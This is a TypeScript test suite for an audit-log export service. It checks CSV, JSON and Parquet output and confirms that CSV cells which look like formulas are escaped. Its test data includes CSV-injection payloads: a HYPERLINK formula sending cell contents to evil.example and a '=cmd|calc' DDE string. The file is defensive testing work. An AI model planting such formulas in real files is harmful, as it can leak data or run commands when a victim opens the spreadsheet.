import { env } from 'cloudflare:test';
import { parquetMetadata } from 'hyparquet';
import { describe, expect, it } from 'vitest';
import { depth } from '../../support/depth';
import { expectedRow, fillLog, makeExport, parseFile } from '../../support/exports';
import { asIdentifier } from '../../support/texts';
import { type Json, type TestAccount, World } from '../../support/world';

const FORMATS = ['csv', 'json', 'parquet'];

const ODD_TEXTS = [
  'plain',
  'with, commas, and "quotes"',
  'line\nbreaks\r\nof both kinds\r',
  '=HYPERLINK("https://evil.example/?"&A1, "Click")',
  "+1 -1 @SUM(1) 'quoted'",
  'tab\tand  spaces ',
  '😀 👩‍👩‍👧 emoji',
  'العربية and עברית, \u202eright to left',
  '日本語 ελληνικά кириллица',
  '\u2028 line separators \u2029 \u0085 \ufeff',
  '\\ backslash \\" and \\u0041',
  '"resource":"forged',
];

/** An account whose log has unusual text in every field that a client can set. */
async function makeOddLog(): Promise<TestAccount> {
  const account = await new World().account({ plan: 'enterprise' });
  const agent = await account.agent();
  const deep = JSON.parse(`${'{"a":['.repeat(4)}{"b":"😀,\\"\\n"}${']}'.repeat(4)}`);
  for (const [i, text] of ODD_TEXTS.entries()) {
    account.world.advance(1_000);
    const scope = i === 0 ? deep : { [text]: text, limit: 1.5e-7, list: [text, null, true] };
    const request = {
      action: i % 2 ? 'email.send' : '-odd.action',
      resource: `mailbox:${asIdentifier(text)}`,
      scope,
      reason: text,
    };
    const { id } = await agent.request(request);
    if (i % 3 === 0)
      await account.must(200, 'POST', `/v1/permissions/${id}/deny`, { reason: text });
    if (i % 3 === 1) {
      await account.must(200, 'POST', `/v1/permissions/${id}/approve`, { reason: text });
      const { body } = await agent.must(200, 'GET', `/v1/permissions/${id}`);
      await account.must(200, 'POST', '/v1/tokens/use', { token: body.token.value });
    }
  }
  const agents = ['=cmd|calc', '"quoted", agent', "-1'", '@x', '+x'];
  for (const agentName of agents) {
    await account.world.must(201, 'POST', '/v1/permissions', {
      token: agent.key,
      headers: { 'User-Agent': agentName, 'CF-Connecting-IP': '2001:db8::17' },
      body: { action: 'file.read', resource: 'file:a' },
    });
  }
  return account;
}

/** A row as CSV shows it: with a `'` before text that looks like a formula. */
function guarded(row: Json): Json {
  const guard = (value: unknown) =>
    typeof value === 'string' && /^[=+\-@\t\r\n]/.test(value) ? `'${value}` : value;
  return Object.fromEntries(Object.entries(row).map(([name, value]) => [name, guard(value)]));
}

describe.each(FORMATS)('an export in the format %s', (format) => {
  it.each(depth.cases([true, false], 3))(
    'has every value as the API returns it (include_details: %s)',
    async (include_details) => {
      const account = await makeOddLog();
      const log = await account.log();
      const { bytes, shown } = await makeExport(account, { format, include_details });
      const expected = log.map((entry) => expectedRow(entry, include_details));
      expect(await parseFile(format, bytes)).toEqual(
        format === 'csv' ? expected.map(guarded) : expected,
      );
      expect(shown.row_count).toBe(log.length);
    },
  );

  it('without entries is a valid empty file', async () => {
    const account = await makeOddLog();
    const range = { start_date: '2025-01-01', end_date: '2025-12-31' };
    const { bytes, shown } = await makeExport(account, { format, ...range });
    expect(await parseFile(format, bytes)).toEqual([]);
    expect([shown.status, shown.row_count, shown.file_size_bytes]).toEqual([
      'completed',
      0,
      bytes.length,
    ]);
  });

  it('for an account without a log is a valid empty file', async () => {
    const { bytes } = await makeExport(await new World().account(), { format });
    expect(await parseFile(format, bytes)).toEqual([]);
  });
});

describe('a CSV export', () => {
  const HEADER =
    'id,sequence,user_id,agent_id,permission_request_id,event_type,action,resource,ip_address,user_agent,created_at';

  it('has a header, CRLF, and no byte order mark', async () => {
    const account = await new World().account();
    expect((await makeExport(account, { format: 'csv' })).text).toBe(`${HEADER}\r\n`);
    const { text } = await makeExport(account, { format: 'csv', include_details: true });
    expect(text).toBe(`${HEADER},details\r\n`);
    await (await account.agent()).request();
    const { text: one } = await makeExport(account, { format: 'csv' });
    expect(one.split('\r\n')).toHaveLength(3);
    expect(one.endsWith('\r\n')).toBe(true);
  });

  it('begins with one byte order mark where it is asked for', async () => {
    const world = new World();
    await (await (await world.account()).agent()).request();
    const account = await world.account();
    expect((await makeExport(account, { format: 'csv', bom: true })).bytes.slice(0, 5)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf, 0x69, 0x64]),
    );
    await (await account.agent()).request();
    const { bytes, shown } = await makeExport(account, { format: 'csv', bom: true });
    const plain = await makeExport(account, { format: 'csv' });
    expect(bytes.slice(3)).toEqual(plain.bytes);
    expect([shown.bom, plain.shown.bom]).toEqual([true, false]);
  });

  it.each(['json', 'parquet', undefined])(
    'alone has a byte order mark, not the format %s',
    async (format) => {
      const account = await new World().account();
      const fields = { start_date: '2026-01-01', end_date: '2026-01-31', format, bom: true };
      const { status, body } = await account.call('POST', '/v1/audit/export', fields);
      expect([status, body.errors]).toEqual([
        400,
        [{ path: 'body.bom', message: 'is only for the format csv' }],
      ]);
      await account.must(202, 'POST', '/v1/audit/export', { ...fields, bom: false });
    },
  );
});

it('a CSV export escapes special characters in cells, even those that no client can send', async () => {
  const account = await new World().account();
  const agent = await account.agent();
  const texts = ['\tx', '\rx', '\nx', 'a\rb', 'a\nb', '"', ',', ';', "'=x", ' =x', 'x=', '＝x'];
  for (const _ of texts) await agent.request();
  await env.DB.prepare(
    `update audit_entries set user_agent = (select value from json_each(?1) where key = (pos - 1) % 4294967296),
         ip_address = (select value from json_each(?1) where key = (pos - 1) % 4294967296)
       where pos / 4294967296 = (select max(number) from accounts)`,
  )
    .bind(JSON.stringify(texts))
    .run();
  const { bytes, text: file } = await makeExport(account, { format: 'csv' });
  // The parser of the tests accepts this cell without quotes too, so check the raw text.
  expect(file).toContain('"a\rb"');
  const cells = (await parseFile('csv', bytes)).map(({ user_agent, ip_address }) => [
    user_agent,
    ip_address,
  ]);
  const expected = texts.map((text) => guarded({ text }).text);
  expect(cells).toEqual(expected.map((text) => [text, text]));
});

describe('a JSON export', () => {
  it('is an array with one object per line', async () => {
    const account = await makeOddLog();
    const { text, shown } = await makeExport(account);
    const lines = text.trimEnd().split('\n');
    expect([lines[0], lines.at(-1), lines.length]).toEqual(['[', ']', shown.row_count + 2]);
    for (const line of lines.slice(1, -1)) JSON.parse(line.replace(/,$/, ''));
    expect((await makeExport(await new World().account())).text).toBe('[\n]\n');
  });
});

describe('a Parquet export', () => {
  it.runIf(depth.isDeep)(
    'has several row groups for a large log, and the same bytes if it is made in many slices',
    async () => {
      const account = await new World().account({ plan: 'enterprise' });
      await fillLog(await account.agent(), 3_000, 3_400);
      const fields = { format: 'parquet', include_details: true };
      const { bytes, shown } = await makeExport(account, fields);
      const sizes = { part: 5 * 2 ** 20, sliceRows: 1, sliceBytes: 1, slices: 1, batchRows: 700 };
      expect((await makeExport(account, fields, sizes)).shown.sha256).toBe(shown.sha256);
      const { row_groups } = parquetMetadata(Uint8Array.from(bytes).buffer);
      expect(row_groups.length).toBeGreaterThan(1);
    },
  );
});
